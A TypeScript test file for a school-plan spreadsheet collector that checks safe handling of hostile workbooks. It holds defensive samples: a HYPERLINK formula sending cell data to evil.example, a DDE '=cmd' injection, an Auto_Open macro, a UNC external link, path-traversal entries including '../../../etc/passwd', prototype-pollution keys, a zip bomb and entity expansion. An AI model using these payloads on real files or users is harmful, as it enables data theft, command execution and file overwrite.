import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { zipOf } from '../xlsx/hostileFiles';
import { lintFile } from '../xlsx/lint/lintFile';
import { readable } from '../xlsx/reading';
import { ran } from './ran';

const PLANS = resolve(__dirname, '../../assets/samples/trust-cpd-plans.xlsx');

let folder = '';
let trust = '';
let form: Readonly<Record<string, Uint8Array>> = {};
let nth = 0;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'trellis-hostile-forms-'));
  trust = join(folder, 'trust.xlsx');
  const packs = join(folder, 'packs');
  mkdirSync(packs);
  await ran('structure', PLANS, '-o', trust);
  await ran('packs', trust, '-d', packs);
  const kiln = readdirSync(packs).find((name) => name.includes('Kiln Meadow')) ?? '';
  form = unzipSync(readFileSync(join(packs, kiln)));
});
afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
});

const FORM_SHEET = 'xl/worksheets/sheet2.xml';

/** The first row of the form whose label says this, counted from 1. */
async function rowOf(label: string): Promise<number> {
  const { sheets } = await readable(zipSync(form), 'form.xlsx');
  const values = sheets.find(({ name }) => name === 'School form')?.values ?? [];
  return values.findIndex((line) => line[1] === label) + 1;
}

const inline = (address: string, words: string): string =>
  `<c r="${address}" t="inlineStr"><is><t xml:space="preserve">${words}</t></is></c>`;

/** A form with the cell of a box as this XML. */
async function withBox(
  parts: typeof form,
  label: string,
  cell: (address: string) => string
): Promise<typeof form> {
  const address = `C${await rowOf(label)}`;
  const xml = strFromU8(parts[FORM_SHEET] ?? new Uint8Array());
  const old = new RegExp(`<c r="${address}"(?:[^>]*/>|[^>]*>.*?</c>)`);
  expect(xml).toMatch(old);
  return { ...parts, [FORM_SHEET]: strToU8(xml.replace(old, cell(address))) };
}

/** Collects these files, each as a name and its bytes, and what came of it. */
async function collect(files: Readonly<Record<string, Uint8Array>>) {
  const own = join(folder, `case${(nth += 1)}`);
  mkdirSync(own);
  const paths = Object.entries(files).map(([name, bytes]) => {
    writeFileSync(join(own, name), bytes);
    return join(own, name);
  });
  const before = readFileSync(trust);
  const out = join(own, 'out.xlsx');
  const { code, printed, said } = await ran('collect', trust, ...paths, '-o', out);
  expect(readFileSync(trust).equals(before)).toBe(true);
  const left = readdirSync(own).filter((name) => !(name in files));
  return { code, told: [printed, ...said].join('\n'), out, left };
}

const partsOf = (file: string): Readonly<Record<string, string>> =>
  Object.fromEntries(
    Object.entries(unzipSync(readFileSync(file))).map(([name, part]) => [name, strFromU8(part)])
  );

/** The formulas of cells in a workbook, wherever they stand. */
const cellFormulas = (file: string): readonly string[] =>
  Object.entries(partsOf(file)).flatMap(([name, xml]) =>
    name.startsWith('xl/worksheets/') ? (xml.match(/<f[ >][^<]*/g) ?? []) : []
  );

const EVIL = 'HYPERLINK("http://evil.example/?"&amp;A1,"Click")';

describe('A hostile form', () => {
  it('with a formula in a box: what it showed arrives as text, and a sentence says so', async () => {
    const bad = await withBox(
      form,
      'What stays the same',
      (at) => `<c r="${at}" t="str"><f>${EVIL}</f><v>=cmd|' /C calc'!A0</v></c>`
    );
    const { code, told, out } = await collect({ 'form.xlsx': zipSync(bad) });
    expect(code).toBe(0);
    expect(told).toContain('“form.xlsx” has formulas in it. What they showed was read, as text.');
    expect(cellFormulas(out).filter((formula) => /HYPERLINK|cmd/.test(formula))).toEqual([]);
    const { sheets } = await readable(readFileSync(out), 'out.xlsx');
    expect(sheets.find(({ name }) => name === 'How')?.values.flat()).toContain(
      "=cmd|' /C calc'!A0"
    );
    expect(lintFile(readFileSync(out))).toEqual([]);
  });

  it('with text that starts like a formula: it stays text', async () => {
    const TYPED: Readonly<Record<string, string>> = {
      'What stays the same': '=1+1',
      'What we change to fit': '+1',
      'Who helped shape it, who leads': '-2+3',
      'What we hope to see in pupils': '@SUM(A1)',
      'What we need from the trust': '\t=1+1',
      'What changed, and what next': '=HYPERLINK("http://evil.example")',
    };
    let bad = form;
    for (const [label, words] of Object.entries(TYPED)) {
      const typed = words.replace('\t', '&#9;').replaceAll('"', '&quot;');
      bad = await withBox(bad, label, (at) => inline(at, typed));
    }
    const { code, out } = await collect({ 'form.xlsx': zipSync(bad) });
    expect(code).toBe(0);
    expect(cellFormulas(out)).toHaveLength(cellFormulas(trust).length);
    const { sheets } = await readable(readFileSync(out), 'out.xlsx');
    const how = sheets.find(({ name }) => name === 'How')?.values.flat();
    expect(how).toEqual(expect.arrayContaining(Object.values(TYPED).map((words) => words.trim())));
  });

  it('with macros, as .xlsm: they are neither read nor kept, and a sentence says so', async () => {
    const bad = { ...form, 'xl/vbaProject.bin': strToU8('Sub Auto_Open() : Shell "calc"') };
    const { code, told, out } = await collect({ 'form.xlsm': zipSync(bad) });
    expect(code).toBe(0);
    expect(told).toContain('“form.xlsm” carries macros. They were neither read nor run.');
    expect(Object.keys(partsOf(out)).filter((name) => /vba|macro/i.test(name))).toEqual([]);
    expect(Object.values(partsOf(out)).join()).not.toContain('Auto_Open');
  });

  it('with links to other files: none is followed or kept, and a sentence says so', async () => {
    const link = '<externalLink><externalBook r:id="rId1"/></externalLink>';
    const rels =
      '<Relationships><Relationship Id="rId1" Type="x/externalLinkPath" TargetMode="External" Target="\\\\evil.example\\share\\book.xlsx"/></Relationships>';
    const bad = {
      ...form,
      'xl/externalLinks/externalLink1.xml': strToU8(link),
      'xl/externalLinks/_rels/externalLink1.xml.rels': strToU8(rels),
    };
    const { code, told, out } = await collect({ 'form.xlsx': zipSync(bad) });
    expect(code).toBe(0);
    expect(told).toContain('“form.xlsx” links to other files. No link was followed');
    expect(Object.values(partsOf(out)).join()).not.toContain('evil.example');
  });

  it('with parts whose names lead out of the folder: nothing is written anywhere', async () => {
    const bad = {
      ...form,
      '../../../outside.txt': strToU8('out'),
      '..\\..\\outside.txt': strToU8('out'),
      '/etc/outside': strToU8('out'),
      'C:\\outside.txt': strToU8('out'),
    };
    const { code, left } = await collect({ 'form.xlsx': zipSync(bad) });
    expect(code).toBe(0);
    expect(left).toEqual(['out.xlsx']);
    expect(readdirSync(folder).filter((name) => name.includes('outside'))).toEqual([]);
  });

  it('whose school is a path or a formula: the name is only ever text', async () => {
    const bad = await withBox(form, 'School', (at) => inline(at, '../../../etc/passwd'));
    const { code, told, left } = await collect({ 'form.xlsx': zipSync(bad) });
    expect(code).toBe(0);
    expect(told).toContain('Kiln Meadow Infant School');
    expect(left).toEqual(['out.xlsx']);
  });

  it('with labels such as __proto__ and constructor: they are words, and change nothing else', async () => {
    const row = await rowOf('What stays the same');
    const xml = strFromU8(form[FORM_SHEET] ?? new Uint8Array());
    const more = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'].map(
      (word, at) =>
        `<row r="${9000 + at}">${inline(`B${9000 + at}`, word)}${inline(`C${9000 + at}`, `polluted ${at}`)}</row>`
    );
    const bad = {
      ...form,
      [FORM_SHEET]: strToU8(xml.replace('</sheetData>', `${more.join('')}</sheetData>`)),
    };
    expect(row).toBeGreaterThan(0);
    const { code, out } = await collect({ 'form.xlsx': zipSync(bad) });
    expect(code).toBe(0);
    const { sheets } = await readable(readFileSync(out), 'out.xlsx');
    const decide = sheets.find(({ name }) => name === 'To decide')?.values.flat();
    expect(decide).toEqual(expect.arrayContaining(['__proto__', 'polluted 0', 'constructor']));
    expect(({} as Record<string, unknown>)['polluted 0']).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});

describe('A file that is no form, or a trap', () => {
  let made: Uint8Array | undefined;
  const bomb = (): Uint8Array =>
    (made ??= zipOf({ ...form, [FORM_SHEET]: new Uint8Array(250_000_000).fill(0x20) }));
  const doctype = (): Uint8Array => {
    const entity = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>';
    return zipSync({ ...form, 'xl/workbook.xml': strToU8(`${entity}<workbook>&b;</workbook>`) });
  };
  const claimedTwice = (): Uint8Array => {
    const twice = strFromU8(form['xl/_rels/workbook.xml.rels'] ?? new Uint8Array()).replace(
      'worksheets/sheet1.xml',
      'worksheets/sheet2.xml'
    );
    return zipSync({ ...form, 'xl/_rels/workbook.xml.rels': strToU8(twice) });
  };
  const TRAPS: Readonly<Record<string, readonly [() => Uint8Array, RegExp]>> = {
    'a zip that unpacks to 250 MB': [bomb, /unpacks to more than|packed far more tightly/],
    'a zip cut short': [() => zipSync(form).slice(0, 4000), /could not be read|cut short/],
    'a zip whose middle is garbled': [
      () => zipSync(form).map((byte, at) => (at > 2000 && at < 9000 ? byte ^ 0x5a : byte)),
      /could not be read/,
    ],
    'a document type with entities': [doctype, /document type/],
    'a part claimed by two sheets': [claimedTwice, /could not be read/],
    'an empty file': [() => new Uint8Array(), /is empty/],
    words: [() => strToU8('Dear all, our form'), /is not a workbook/],
    'XML that does not end': [
      () => zipSync({ ...form, [FORM_SHEET]: strToU8('<worksheet><sheetData><row r="1"><c') }),
      /could not be read|holds no school form/,
    ],
  };

  it.each(Object.entries(TRAPS))(
    '%s: alone it is refused with a sentence and writes nothing',
    async (_, [trap, says]) => {
      const { code, told, left } = await collect({ 'form.xlsx': trap() });
      expect({ code, left }).toEqual({ code: 1, left: [] });
      expect(told).toMatch(says);
      expect(told).toContain('form.xlsx');
      expect(told).not.toMatch(/\bat .*\.ts:|undefined|\[object/);
    }
  );

  it('beside a good form: each is said, and the good one still comes in', async () => {
    const bad = Object.entries(TRAPS).map(([, [trap]], at) => [`bad${at}.xlsx`, trap()] as const);
    const { code, told } = await collect({
      ...Object.fromEntries(bad),
      'good.xlsx': zipSync(form),
    });
    expect(code).toBe(0);
    for (const [name] of bad) expect(told).toContain(name);
    expect(told).toContain('Kiln Meadow Infant School: nothing new');
  });
});
